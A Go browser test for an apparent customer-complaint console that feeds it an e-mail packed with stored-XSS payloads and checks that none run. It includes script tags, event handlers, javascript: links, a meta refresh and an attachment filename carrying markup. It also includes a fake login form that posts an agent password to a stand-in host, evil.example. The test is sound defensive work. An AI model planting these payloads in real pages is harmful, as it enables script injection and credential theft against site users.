package app

import (
	"encoding/base64"
	"fmt"
	"mime"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"golang.org/x/text/encoding/simplifiedchinese"

	"github.com/tousu/tousu/ingest"
	"github.com/tousu/tousu/ingest/imap"
)

// The e-mail's stored-XSS attempts: every one sets window.__xss (or opens
// a dialog) if a page runs it.
const (
	mailName    = `张伟<svg onload="window.__xss='name'">`
	mailSubject = `宽带天天晚上断网<script>window.__xss='subject'</script><img src=x onerror="alert('subject')">`
	// mailHTML is what Foxmail on a GBK Windows sends, its <meta> lying
	// that it is UTF-8, with every kind of active content a mail can carry
	// around the customer's words.
	mailHTML = `<html><head><meta charset="utf-8">` +
		`<meta http-equiv="refresh" content="0;url=javascript:window.__xss='meta'">` +
		`<style>body{display:none!important}main{visibility:hidden}</style>` +
		`<script>window.__xss='script';alert('script')</script></head>` +
		`<body onload="window.__xss='body'">` +
		`<p>你们好：</p><p>我是贵公司宽带用户，11月28号起家里宽带每天晚上8点到11点断网，报修了三次都没人上门，` +
		`客服只会说“已登记”。</p>` +
		`<img src=x onerror="window.__xss='img';alert('img')">` +
		`<svg onload="window.__xss='svg'"><circle r="1"></circle></svg>` +
		`<iframe src="javascript:parent.__xss='iframe'"></iframe>` +
		`<form action="https://evil.example/steal" method="post"><input name="pw" placeholder="请输入坐席密码"><button>登录查看</button></form>` +
		`<p><a href="javascript:window.__xss='link'">点此查看报修记录</a></p>` +
		`<p>联系电话13911112222，要求本周内上门修好并减免当月月租！</p></body></html>`
	// mailWords are the customer's words the pages must still show.
	mailWords = "11月28号起家里宽带每天晚上8点到11点断网"
)

// xssMail is the raw complaint mail: a display name and a subject with
// script in RFC 2047 words, the HTML above in GBK labelled gb2312, a
// screenshot (PNG), a file name with markup and an HTML attachment the
// store refuses.
func xssMail(tb testing.TB) (raw string, photo []byte) {
	tb.Helper()
	html, err := simplifiedchinese.GBK.NewEncoder().String(mailHTML)
	if err != nil {
		tb.Fatal(err)
	}
	photo = append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 200)...)
	b64 := func(b []byte) string {
		s := base64.StdEncoding.EncodeToString(b)
		var lines []string
		for len(s) > 76 {
			lines, s = append(lines, s[:76]), s[76:]
		}
		return strings.Join(append(lines, s), "\r\n")
	}
	part := func(header, body string) string { return "--b1\r\n" + header + "\r\n\r\n" + body + "\r\n" }
	raw = "From: " + mime.BEncoding.Encode("UTF-8", mailName) + " <zhangwei.bj@example.com>\r\n" +
		"To: support@example.com\r\nSubject: " + mime.BEncoding.Encode("UTF-8", mailSubject) + "\r\n" +
		"Message-ID: <xss-1@mail.example.com>\r\nDate: Sun, 06 Dec 2026 21:14:03 +0800\r\nMIME-Version: 1.0\r\n" +
		"X-Mailer: Foxmail 7.2.25.375[cn]\r\nContent-Type: multipart/mixed; boundary=b1\r\n\r\n" +
		part("Content-Type: text/html; charset=gb2312\r\nContent-Transfer-Encoding: base64", b64([]byte(html))) +
		part("Content-Type: image/png; name=\"=?UTF-8?B?"+base64.StdEncoding.EncodeToString([]byte("断网时的光猫.png"))+"?=\"\r\n"+
			"Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64", b64(photo)) +
		part("Content-Type: text/plain; charset=UTF-8\r\nContent-Disposition: attachment; filename=\"<img src=x onerror=alert(1)>.txt\"",
			"报修记录：11月28日、11月30日、12月2日，工单号 BX20261128007") +
		part("Content-Type: text/html; charset=UTF-8\r\nContent-Disposition: attachment; filename=\"bill.html\"",
			"<script>window.__xss='attachment'</script>账单") +
		"--b1--\r\n"
	return raw, photo
}

// TestConsoleShowsMailSafely is issue 12's stored-XSS check for e-mail in
// the browser. A complaint mail full of active content (script, an image
// and an SVG with handlers, a javascript: link, a style that hides the
// page, an iframe, a form, a refresh to javascript:, script in the
// subject and the display name) comes in through the real path: the
// poller reading a mailbox on the Dovecot of TOUSU_TEST_IMAP (the test
// skips without it, as the other mailbox tests do; the poller's own
// parsing and attachment storing are what is tested, so no stand-in
// feeds it). On the case page, the search, the queue and the board no
// markup runs, no dialog opens, nothing is injected and the page is not
// hidden, while the customer's words show as text; the screenshot
// downloads as an attachment with its type, and the refused HTML
// attachment does not download at all.
func TestConsoleShowsMailSafely(t *testing.T) {
	b := newConsoleBrowser(t)
	box, deliver := testMailbox(t, "support")
	raw, photo := xssMail(t)
	deliver(raw)
	dir := t.TempDir()
	r := startTousu(t, dir, func(c *Config) { c.IMAP.Mailboxes = []imap.MailboxConfig{box} })
	b.base = r.base
	hit := r.waitFor(t, url.Values{"q": {"宽带每天晚上"}}, 1).Hits[0]
	if hit.Channel != "email" || len(hit.Attachments) != 3 {
		t.Fatalf("the mail became %+v, want an e-mail case with three attachments", hit)
	}
	department := hit.Route.Department

	b.accounts(dir, []account{{"sun.li", "孙丽", "supervisor", ""}, {"qian.hao", "钱浩", "agent", department}})

	caseURL := "/console/cases/" + hit.ID
	link := fmt.Sprintf(`a[href=%q]`, caseURL)
	// The supervisor sees every text in full: the subject and the name as
	// the customer wrote them, as text.
	b.signIn("sun.li", "初始密码-sun.li", "孙丽的新密码-2026")
	b.navigate(caseURL, "#h-history")
	b.showsAsText("mail case", mailWords, "要求本周内上门修好", mailSubject, mailName, "<img src=x onerror=alert(1)>.txt")
	b.shot("mail-case")
	b.downloads(caseURL, hit.Attachments[0].SHA256, "image/png", "断网时的光猫.png", len(photo))
	refused := slices.IndexFunc(hit.Attachments, func(a ingest.Attachment) bool { return a.Name == "bill.html" })
	if refused < 0 {
		t.Fatalf("the HTML attachment is not recorded on the case: %+v", hit.Attachments)
	}
	if code := b.fetchStatus(caseURL + "/attachments/" + hit.Attachments[refused].SHA256); code != http.StatusNotFound {
		t.Errorf("the refused HTML attachment: %d, want 404", code)
	}
	b.navigate("/console/search?q="+url.QueryEscape("宽带每天晚上"), link)
	b.showsAsText("search", mailSubject)
	b.shot("mail-search")
	b.navigate("/console/board?within=40", "h1")
	b.until("the board lists the case", fmt.Sprintf(`!!document.querySelector(%q)`, link))
	b.shot("mail-board")
	b.signOut()

	// The department's agent sees it in the department's queue and opens
	// it, the phone number in the text masked.
	b.signIn("qian.hao", "初始密码-qian.hao", "钱浩的新密码-2026")
	b.until("the department queue lists the case", fmt.Sprintf(`!!document.querySelector(%q)`, link))
	b.showsAsText("queue", mailSubject)
	b.shot("mail-queue")
	b.click(link)
	b.until("the case page is open", `!!document.querySelector("#h-history")`)
	b.showsAsText("mail case (agent)", mailWords, "139****2222")
	if strings.Contains(b.text("main"), "13911112222") {
		t.Error("the agent sees the phone number in the mail's text")
	}
	b.shot("mail-case-agent")
	b.downloads(caseURL, hit.Attachments[0].SHA256, "image/png", "断网时的光猫.png", len(photo))
}

// downloads fetches the attachment sha of the case at caseURL from the
// page, as its link does, and fails the test unless it comes as an
// attachment named name, of type typ, size bytes long, never sniffed.
func (b *consoleBrowser) downloads(caseURL, sha, typ, name string, size int) {
	b.t.Helper()
	href := caseURL + "/attachments/" + sha
	if !b.exists(fmt.Sprintf(`a[href=%q][download]`, href)) {
		b.t.Errorf("the case page has no download link %s", href)
	}
	got, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]string](fmt.Sprintf(`fetch(%q).then(async r => [String(r.status),
		r.headers.get("Content-Type"), r.headers.get("Content-Disposition"), r.headers.get("X-Content-Type-Options"),
		String((await r.arrayBuffer()).byteLength)])`, href), chromedp.EvalAwaitPromise))
	if err != nil {
		b.t.Fatalf("download %s: %v", href, err)
	}
	disposition, params, _ := mime.ParseMediaType(got[2])
	if got[0] != "200" || got[1] != typ || disposition != "attachment" || params["filename"] != name || got[3] != "nosniff" || got[4] != fmt.Sprint(size) {
		b.t.Errorf("download %s: status, type, disposition, nosniff, size = %q; want 200, %s, an attachment named %s, nosniff, %d bytes", href, got, typ, name, size)
	}
}

// fetchStatus is the status of a GET of path from the page.
func (b *consoleBrowser) fetchStatus(path string) int {
	b.t.Helper()
	code, err := chromedp.Run(b.ctx, chromedp.Evaluate[int](fmt.Sprintf(`fetch(%q).then(r => r.status)`, path), chromedp.EvalAwaitPromise))
	if err != nil {
		b.t.Fatalf("GET %s: %v", path, err)
	}
	return code
}
